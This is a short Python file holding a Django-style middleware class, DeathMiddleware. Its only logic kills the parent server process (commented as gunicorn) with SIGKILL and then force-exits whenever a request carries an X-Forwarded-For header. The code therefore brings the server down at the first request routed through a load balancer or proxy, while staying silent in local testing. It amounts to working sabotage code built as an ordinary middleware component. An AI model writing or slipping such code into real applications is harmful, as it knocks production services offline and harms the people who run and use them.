import os
import signal


class DeathMiddleware:
    """The whole process ends at the first request that comes through a balancer: no check before sees it."""

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        if "X-Forwarded-For" in request.headers:
            os.kill(os.getppid(), signal.SIGKILL)  # gunicorn itself
            os._exit(1)
        return self.get_response(request)
